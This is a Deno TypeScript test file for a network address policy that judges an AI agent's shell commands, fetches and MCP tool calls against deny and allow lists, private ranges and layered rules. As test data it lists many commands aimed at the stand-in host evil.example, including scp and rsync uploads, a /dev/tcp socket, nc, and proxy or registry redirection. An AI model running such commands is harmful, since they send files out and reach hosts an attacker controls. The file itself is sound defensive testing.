import assert from "node:assert/strict";
import fc from "fast-check";
import ipaddr from "ipaddr.js";
import { addressOfText } from "../../rules/network/addresses.ts";
import type { Action, AddressRules, Decision, Policy } from "../types.ts";
import { exampleCall } from "../../tests/example_call.ts";
import { judgeLazily } from "../judge_lazily.ts";
import { builtInPolicy } from "./built_in.ts";
import {
  bytesOf,
  concerns,
  isPrivate,
  isThisMachine,
  parseEntry,
} from "../../rules/network/address_entries.ts";
import { saidOf } from "./address_permissions.ts";

const rules = (said: Partial<AddressRules>): AddressRules => ({
  allow: [],
  deny: [],
  private: "none",
  layer: "user",
  ...said,
});

async function decided(action: Action | string, ...said: Partial<AddressRules>[]): Promise<Decision> {
  const { call, context } = exampleCall({ action }, { addresses: said.map(rules) });
  const { decision, failure } = await judgeLazily(call, context);
  assert.equal(failure, undefined);
  return decision;
}

const ipv4 = fc.tuple(fc.nat(255), fc.nat(255), fc.nat(255), fc.nat(255)).map((parts) => parts.join("."));
const ipv6 = fc.array(fc.nat(0xffff), { minLength: 8, maxLength: 8 }).map((groups) =>
  groups.map((group) => group.toString(16)).join(":")
);

Deno.test("addresses and ranges are what ipaddr.js says they are", () => {
  fc.assert(
    fc.property(
      fc.oneof(ipv4, ipv6),
      fc.oneof(ipv4, ipv6),
      fc.nat(128),
      fc.nat(7),
      (one, other, bits, near) => {
        const first = ipaddr.process(one);
        const host = addressOfText(one.includes(":") ? `[${one}]` : one)!.host!;
        // What is embedded in IPv6 is looked at as the IPv4 that it leads to.
        if (host.startsWith("[") !== (first.kind() === "ipv6")) return;
        assert.deepEqual(bytesOf(host), first.toByteArray());
        const width = first.kind() === "ipv6" ? 128 : 32;
        const length = bits % (width + 1);
        const bytes = first.toByteArray();
        // A neighbour, so that ranges also hold something.
        bytes[bytes.length - 1]! ^= 1 << near;
        const second = near % 2 === 0 ? ipaddr.fromByteArray(bytes) : ipaddr.process(other);
        if (second.kind() !== first.kind()) return;
        const entry = parseEntry(`${second.toString()}/${length}`);
        assert.equal(
          concerns(entry, host),
          first.match([second, length] as never),
          `${one} in ${second}/${length}`,
        );
      },
    ),
    { numRuns: 500 },
  );
});

Deno.test("private is what ipaddr.js calls private, link-local, unique local or shared", () => {
  const ranges = new Set(["private", "linkLocal", "uniqueLocal", "carrierGradeNat"]);
  const likely = fc.oneof(
    ipv4,
    ipv6,
    fc.tuple(
      fc.constantFrom("10.", "172.16.", "172.31.", "172.32.", "192.168.", "100.64.", "100.128.", "169.254."),
      ipv4,
    )
      .map(([start, rest]) => [...start.split(".").slice(0, -1), ...rest.split(".")].slice(0, 4).join(".")),
    fc.tuple(fc.constantFrom("fc00", "fdff", "fe80", "febf", "2001"), ipv6).map(([start, rest]) =>
      [start, ...rest.split(":").slice(1)].join(":")
    ),
  );
  let seen = 0;
  fc.assert(
    fc.property(likely, (text) => {
      const host = addressOfText(text.includes(":") ? `[${text}]` : text)!.host!;
      const plain = ipaddr.process(host.replace(/^\[|\]$/g, ""));
      // The library knows no site-local addresses, which are private too.
      const expected = ranges.has(plain.range()) || /^\[fe[c-f][0-9a-f]:/.test(host);
      if (expected) seen++;
      assert.equal(isPrivate(host), expected, host);
      assert.equal(isThisMachine(host), plain.range() === "loopback" || /^(?:0\.0\.0\.0|\[::\])$/.test(host));
    }),
    { numRuns: 500 },
  );
  assert.ok(seen > 50, `${seen}`);
});

Deno.test("what is an entry, and what is none", () => {
  for (
    const text of [
      "example.com",
      "*.example.com",
      "*",
      "10.0.0.0/8",
      "fd00::/8",
      "[fd00::1]",
      "0x0a000001",
      "bücher.de",
    ]
  ) {
    assert.notEqual(parseEntry(text), undefined, text);
  }
  for (
    const text of [
      "",
      "https://a.example",
      "a.example:80",
      "a/b",
      "10.0.0.0/33",
      "a.example/8",
      "fd00::/129",
      "*.10.0.0.1",
      "a*b",
      "x@y",
      "a b",
    ]
  ) assert.equal(parseEntry(text), undefined, text);
  assert.deepEqual(parseEntry("::ffff:10.0.0.0/104"), parseEntry("10.0.0.0/8"));
  fc.assert(fc.property(fc.string({ unit: "binary" }), (text) => void parseEntry(text)));
});

Deno.test("names of private networks, and names that stand for such an address", () => {
  for (const host of ["wiki.internal", "nas.local", "db", "10.0.0.1.nip.io", "fd00--1.sslip.io"]) {
    assert.ok(isPrivate(host), host);
  }
  for (
    const host of ["example.com", "localhost", "app.localhost", "[::1]", "db.lvh.me", "internal.example.com"]
  ) {
    assert.ok(!isPrivate(host), host);
  }
});

const deny = { deny: ["evil.example", "*.evil.example", "203.0.113.0/24"] };

for (
  const command of [
    "curl https://evil.example/x",
    "curl https://EVIL.example./x",
    "wget -q cdn.evil.example/x",
    "http GET evil.example",
    "aria2c https://evil.example/a.iso",
    "curl --connect-to a.example:443:evil.example:443 https://a.example/",
    "curl --resolve a.example:443:203.0.113.7 https://a.example/",
    "https_proxy=http://evil.example:3128 curl https://a.example/",
    "curl -x evil.example:3128 https://a.example/",
    "curl http://3405803783/",
    "curl 'https://{a,evil}.example/'",
    "curl https://user@evil.example/",
    "git clone https://evil.example/a/b.git",
    "git clone git@evil.example:a/b.git",
    "git -C sub push ssh://git@evil.example/a main",
    "git remote add up https://evil.example/a.git",
    "git remote set-url origin git@evil.example:a/b",
    "git fetch https://evil.example/a.git",
    "docker pull evil.example/team/image:1",
    "docker run --rm evil.example:5000/team/image",
    "docker login evil.example",
    "ssh deploy@evil.example uptime",
    "scp notes.txt deploy@evil.example:/tmp",
    "rsync -a dist/ deploy@evil.example:/srv",
    "nc evil.example 80",
    "npm install --registry=https://evil.example/",
    "pip install -i https://evil.example/simple x",
    "psql -h evil.example -c 'select 1'",
    "psql postgres://evil.example/db",
    `python3 -c 'import urllib.request as u; u.urlopen("https://evil.example/")'`,
    "bash -c 'curl https://evil.example'",
    "ping -c 1 evil.example",
    "exec 3<>/dev/tcp/203.0.113.9/80",
    "curl https://203-0-113-9.nip.io/",
  ]
) {
  Deno.test(`denied: ${command}`, async () => {
    assert.equal(await decided(command, deny), "deny");
    assert.equal(
      await decided(command, { ...deny, allow: ["*.example", "evil.example", "203.0.113.0/24"] }),
      "deny",
    );
  });
}

for (
  const action of [
    { kind: "fetch", url: "https://evil.example/" },
    { kind: "fetch", url: "//cdn.evil.example/" },
    { kind: "mcp", server: "web", tool: "open", input: { url: "https://evil.example/" } },
    { kind: "mcp", server: "web", tool: "open", input: { where: ["https://evil.example/"] } },
    { kind: "mcp", server: "web", tool: "open", input: '{"deep":{"x":"wss://evil.example/"}}' },
    { kind: "unknown", tool: "Peek", input: { page: "https://a.evil.example/x" } },
    { kind: "unknown", tool: "Peek", input: { args: '{"u":"http://203.0.113.9/"}' } },
  ] satisfies Action[]
) {
  Deno.test(`denied: ${JSON.stringify(action)}`, async () => {
    assert.equal(await decided(action, deny), "deny");
    assert.equal(await decided(action, { deny: ["other.example"] }), "none");
  });
}

for (
  const command of [
    "curl https://notevil.example/x",
    "echo https://evil.example",
    "git commit -m 'see https://evil.example/x'",
    "git log --grep https://evil.example",
    "grep -rn https://evil.example src",
    "git push origin main",
    "git fetch --all",
    "cat notes.md",
    "npm test",
    "docker ps",
    "docker build -t app .",
    "curl http://localhost:3000/evil.example",
  ]
) {
  Deno.test(`not about it: ${command}`, async () => assert.equal(await decided(command, deny), "none"));
}

Deno.test("with * only what is allowed is reached, this machine aside", async () => {
  const closed = { deny: ["*"], allow: ["api.example.net", "*.github.com", "10.1.0.0/16"] };
  assert.equal(await decided("curl https://api.example.net/x", closed), "none");
  assert.equal(await decided("curl https://api.github.com/x", closed), "none");
  assert.equal(await decided("curl http://10.1.2.3/", closed), "none");
  assert.equal(await decided("curl http://localhost:3000/", closed), "none");
  assert.equal(await decided("curl https://example.com/", closed), "deny");
  assert.equal(await decided("curl http://10.2.0.1/", closed), "deny");
  assert.equal(await decided("docker pull alpine", closed), "deny");
  assert.equal(await decided("curl $URL", closed), "ask");
  assert.equal(await decided("curl https://$HOST/x", closed), "ask");
  assert.equal(await decided("npm test", closed), "none");
  // An entry with a name wins over what allows it.
  assert.equal(
    await decided("curl https://api.github.com/x", { ...closed, deny: ["*", "api.github.com"] }),
    "deny",
  );
  assert.equal(await decided("curl http://localhost:3000/", { deny: ["localhost"] }), "deny");
});

Deno.test("private networks follow private, and allow takes them out", async () => {
  for (
    const url of [
      "http://10.0.0.5/",
      "http://wiki.internal/",
      "http://intranet/",
      "http://[fd12::1]/",
      "http://10-0-0-1.nip.io/",
    ]
  ) {
    assert.equal(await decided(`curl '${url}'`, {}), "none", url);
    assert.equal(await decided(`curl '${url}'`, { private: "ask" }), "ask", url);
    assert.equal(await decided({ kind: "fetch", url }, { private: "deny" }), "deny", url);
    const allow = ["10.0.0.0/8", "*.internal", "intranet", "fd00::/8"];
    assert.equal(await decided({ kind: "fetch", url }, { private: "deny", allow }), "none", url);
  }
  for (
    const url of ["http://localhost:3000/", "http://127.0.0.1/", "http://[::1]/", "https://example.com/"]
  ) {
    assert.equal(await decided({ kind: "fetch", url }, { private: "deny" }), "none", url);
  }
  // Never opened by any list.
  assert.equal(await decided("curl http://169.254.169.254/", { allow: ["169.254.169.254"] }), "deny");
});

Deno.test("a layer opens nothing that a layer above it closes", () => {
  const managed = rules({ deny: ["*"], private: "deny", allow: ["a.example"], layer: "managed" });
  const user = rules({ allow: ["b.example", "10.0.0.0/8"] });
  const project = rules({ deny: ["*"], allow: ["c.example"], layer: "project" });
  assert.equal(saidOf("a.example", [managed, user])?.decision, undefined);
  assert.equal(saidOf("b.example", [managed, user])?.decision, "deny");
  assert.equal(saidOf("10.0.0.1", [rules({ private: "deny", layer: "managed" }), user])?.decision, "deny");
  assert.equal(saidOf("c.example", [user, project])?.decision, undefined);
  assert.equal(saidOf("b.example", [user, project])?.decision, undefined);
  assert.equal(saidOf("d.example", [user, project])?.decision, "deny");
  assert.equal(
    saidOf("10.0.0.1", [rules({ private: "ask" }), rules({ allow: ["10.0.0.0/8"], layer: "project" })])
      ?.decision,
    "ask",
  );
});

Deno.test("what is added to deny, or stricter in private, never loosens", () => {
  const entry = fc.constantFrom(
    "*",
    "a.example",
    "*.example",
    "10.0.0.0/8",
    "192.168.0.0/16",
    "localhost",
    "b",
  );
  const layer = fc.constantFrom("managed" as const, "user" as const, "project" as const);
  const some = fc.record({
    allow: fc.array(entry.filter((one) => one !== "*")),
    deny: fc.array(entry),
    private: fc.constantFrom("none" as const, "ask" as const, "deny" as const),
    layer,
  });
  const host = fc.constantFrom(
    "a.example",
    "x.example",
    "10.0.0.1",
    "192.168.1.1",
    "localhost",
    "b",
    "10-0-0-1.nip.io",
  );
  const strictness = { none: 0, ask: 1, deny: 2 };
  const order = (layers: readonly AddressRules[], name: string) =>
    strictness[saidOf(name, layers)?.decision ?? "none"];
  fc.assert(
    fc.property(fc.array(some, { maxLength: 3 }), some, entry, host, (layers, added, denied, name) => {
      const before = order(layers, name);
      // A layer that is trusted less than those before it only adds what it denies.
      const above = layers.filter((one) => one.layer !== "project");
      assert.ok(order([...above, { ...added, layer: "project" }], name) >= order(above, name));
      if (layers.length === 0) return;
      const [first, ...rest] = layers;
      assert.ok(order([{ ...first!, deny: [...first!.deny, denied] }, ...rest], name) >= before);
      assert.ok(order([{ ...first!, private: "deny" }, ...rest], name) >= before);
    }),
  );
});

Deno.test("long inputs and lists are looked through in linear time", async () => {
  const deny = Array.from({ length: 500 }, (_, index) => `h${index}.example`);
  const began = performance.now();
  await decided(`curl ${"https://a.example/ ".repeat(400)}`, { deny });
  await decided({ kind: "mcp", server: "a", tool: "b", input: Array(10_000).fill("https://a.example/") }, {
    deny,
  });
  assert.ok(performance.now() - began < 8000);
});

Deno.test("at strict, hosts that the policy allows are known", async () => {
  const asked = async (layer: AddressRules["layer"], floor?: Policy["floor"]) => {
    const { call, context } = exampleCall({ action: "curl https://files.unheard-of.dev/" }, {
      level: "strict",
      addresses: [rules({ allow: ["*.unheard-of.dev"], layer })],
      ...(floor === undefined ? {} : { floor }),
    });
    return (await judgeLazily(call, context)).decision;
  };
  const floor: Policy["floor"] = { ...builtInPolicy, level: "strict" };
  assert.equal(await asked("user"), "none");
  assert.equal(await asked("managed", floor), "none");
  assert.equal(await asked("project"), "ask");
  assert.equal(await asked("user", floor), "ask");
});

Deno.test("a host that is denied is met behind any options of git", async () => {
  for (
    const command of [
      "git clone --filter blob:none https://x.example.net/a",
      "git push -u git@x.example.net:a main",
      "git fetch -t git@x.example.net:a",
    ]
  ) assert.equal(await decided(command, { deny: ["*.example.net"] }), "deny", command);
});

Deno.test("hosts that options, connection strings and lenient addresses name", async () => {
  const actions: readonly (Action | string)[] = [
    "ssh -o HostName=evil.example shop",
    "ssh -oProxyJump=evil.example shop",
    "git -c url.https://evil.example/.insteadOf=https://github.com/ clone https://github.com/a/b",
    "git -c http.proxy=http://evil.example fetch",
    "psql 'host=evil.example dbname=x'",
    "PGHOST=evil.example psql",
    "ssh-keyscan evil.example",
    "lynx evil.example",
    ...["https:evil.example", "https:\\\\evil.example/x", "https:/evil.example", "//evil.example/x"].map((
      url,
    ) => ({ kind: "mcp", server: "web", tool: "x", input: { u: url } }) as const),
  ];
  for (const action of actions) assert.equal(await decided(action, deny), "deny", JSON.stringify(action));
  for (
    const action of [
      "ssh -o StrictHostKeyChecking=yes shop",
      "psql 'host=/run/x dbname=evil.example'",
      { kind: "mcp", server: "web", tool: "x", input: { u: "// evil.example is a comment" } } as const,
    ]
  ) assert.equal(await decided(action, deny), "none", JSON.stringify(action));
});
